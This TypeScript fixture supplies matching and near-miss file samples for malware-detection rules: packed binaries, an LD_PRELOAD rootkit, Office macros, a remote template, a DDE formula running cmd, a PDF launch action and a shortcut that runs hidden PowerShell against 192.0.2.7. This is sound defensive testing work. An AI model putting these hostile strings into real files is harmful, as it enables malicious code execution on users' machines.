import { bytes, joined, type RuleSample } from './samples';

const ole = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
const zeros = (count: number): Uint8Array => new Uint8Array(count);
const wide = (text: string): Uint8Array => Buffer.from(text, 'utf16le');
const lnk = [0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46];

/** Bytes without a pattern, the same at every run: packed data looks like that. */
function noise(count: number): Uint8Array {
  const result = new Uint8Array(count);
  let state = 0x2545f491;
  for (let index = 0; index < count; index++) {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    result[index] = state & 0xff;
  }
  return result;
}

interface ElfParts {
  readonly flags: number;
  readonly content: Uint8Array;
}

/** A 64-bit ELF without sections, with one segment to be loaded. */
function elf({ flags, content }: ElfParts): Uint8Array {
  const headers = Buffer.alloc(120);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]).copy(headers);
  headers.writeUInt16LE(2, 16);
  headers.writeUInt16LE(62, 18);
  headers.writeUInt32LE(1, 20);
  headers.writeBigUInt64LE(0x400078n, 24);
  headers.writeBigUInt64LE(64n, 32);
  headers.writeUInt16LE(64, 52);
  headers.writeUInt16LE(56, 54);
  headers.writeUInt16LE(1, 56);
  headers.writeUInt16LE(64, 58);
  headers.writeUInt32LE(1, 64);
  headers.writeUInt32LE(flags, 68);
  headers.writeBigUInt64LE(0x400000n, 80);
  headers.writeBigUInt64LE(BigInt(120 + content.length), 96);
  headers.writeBigUInt64LE(BigInt(120 + content.length), 104);
  return Buffer.concat([headers, content]);
}

/** A 32-bit Windows program with one section, which holds the entry point. */
function pe(characteristics: number, content: Uint8Array): Uint8Array {
  const file = Buffer.alloc(0x400 + content.length);
  file.write('MZ', 0, 'latin1');
  file.writeUInt32LE(0x80, 0x3c);
  file.write('PE\0\0', 0x80, 'latin1');
  file.writeUInt16LE(0x14c, 0x84);
  file.writeUInt16LE(1, 0x86);
  file.writeUInt16LE(0xe0, 0x94);
  file.writeUInt16LE(0x102, 0x96);
  const optional = 0x98;
  file.writeUInt16LE(0x10b, optional);
  file.writeUInt32LE(0x1000, optional + 16);
  file.writeUInt32LE(0x400000, optional + 28);
  file.writeUInt32LE(0x1000, optional + 32);
  file.writeUInt32LE(0x200, optional + 36);
  file.writeUInt32LE(0x10000, optional + 56);
  file.writeUInt32LE(0x400, optional + 60);
  file.writeUInt16LE(3, optional + 68);
  file.writeUInt32LE(16, optional + 92);
  const section = optional + 0xe0;
  file.write('.text', section, 'latin1');
  file.writeUInt32LE(content.length, section + 8);
  file.writeUInt32LE(0x1000, section + 12);
  file.writeUInt32LE(content.length, section + 16);
  file.writeUInt32LE(0x400, section + 20);
  file.writeUInt32LE(characteristics, section + 36);
  file.set(content, 0x400);
  return file;
}

const relationship = (type: string, target: string): string =>
  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

export const fileSamples: readonly RuleSample[] = [
  {
    rule: 'packed_upx',
    match: bytes([0x7f, 0x45, 0x4c, 0x46], zeros(100), 'UPX!', zeros(100), 'UPX!'),
    nearMiss: 'UPX! and UPX! are the marks of a packer.',
  },
  {
    rule: 'packed_upx_header_removed',
    match: bytes(
      [0x7f, 0x45, 0x4c, 0x46],
      zeros(100),
      joined('$Info: This file is packed with the ', 'UPX executable packer'),
    ),
    nearMiss: bytes(
      [0x7f, 0x45, 0x4c, 0x46],
      zeros(100),
      'UPX!',
      joined('$Info: This file is packed with the ', 'UPX executable packer'),
    ),
  },
  {
    rule: 'packed_by_protector',
    match: bytes('MZ', zeros(500), '.themida', zeros(20)),
    nearMiss: bytes('MZ', zeros(500), '.text', zeros(20), 'themida'),
  },
  {
    rule: 'pe_entry_in_writable_high_entropy_section',
    match: pe(0xe0000020, noise(16_384)),
    nearMiss: pe(0x60000020, noise(16_384)),
  },
  {
    rule: 'elf_infected_note_segment',
    match: elf({ flags: 7, content: noise(16_384) }),
    nearMiss: elf({ flags: 5, content: noise(16_384) }),
  },
  {
    rule: 'linux_preload_rootkit',
    match: bytes(
      [0x7f, 0x45, 0x4c, 0x46],
      zeros(60),
      '\0readdir64\0dlsym\0/etc/ld.so.preload\0/proc/self/fd/%d\0/bin/sh\0',
    ),
    nearMiss: bytes([0x7f, 0x45, 0x4c, 0x46], zeros(60), '\0readdir64\0dlsym\0/proc/self/fd/%d\0/bin/sh\0'),
  },
  {
    rule: 'office_macro_runs_program',
    match: bytes(
      ole,
      zeros(512),
      'Attribut\0e VB_Name = "ThisDocument"',
      zeros(8),
      'VBA',
      'Document_Open',
      joined('WScript.', 'Shell'),
    ),
    nearMiss: bytes(ole, zeros(512), 'Attribut\0e VB_Name = "Module1"', zeros(8), 'VBA', 'Sub Total()'),
  },
  {
    rule: 'office_macro',
    match: bytes(ole, zeros(512), wide('_VBA_PROJECT')),
    nearMiss: bytes(ole, zeros(512), wide('WordDocument')),
  },
  {
    rule: 'office_remote_template',
    match: relationship('attachedTemplate', 'http://192.0.2.7/t.dotm'),
    nearMiss: relationship('hyperlink', 'https://example.com/page'),
  },
  {
    rule: 'office_dynamic_data_exchange',
    match: joined('name,total\n"=cmd|', "'/C calc'!A0\"\n"),
    nearMiss: 'name,formula\n"x","=SUM(A1:A9)"\n',
  },
  {
    rule: 'rtf_with_embedded_object',
    match: joined(
      '{\\rtf1{\\object\\objemb\\obj',
      'update{\\*\\objdata 0105000002000000',
      '0b0000004571756174696f6e2e3300}}}',
    ),
    nearMiss: '{\\rtf1{\\object\\objemb{\\*\\objdata 01050000020000000b0000005061696e742e50696374757265}}}',
  },
  {
    rule: 'pdf_that_starts_program',
    match: joined('%PDF-1.7\n1 0 obj <</OpenAction <</S/Lau', 'nch /F (cmd.exe) >> >>\n'),
    nearMiss: '%PDF-1.7\n1 0 obj <</OpenAction [3 0 R /XYZ null null 0] >>\n',
  },
  {
    rule: 'shortcut_that_starts_script',
    match: bytes(lnk, zeros(60), wide(joined('power', 'shell.exe -w hidden https://192.0.2.7/a'))),
    nearMiss: bytes(lnk, zeros(60), wide('C:\\Windows\\notepad.exe')),
  },
];
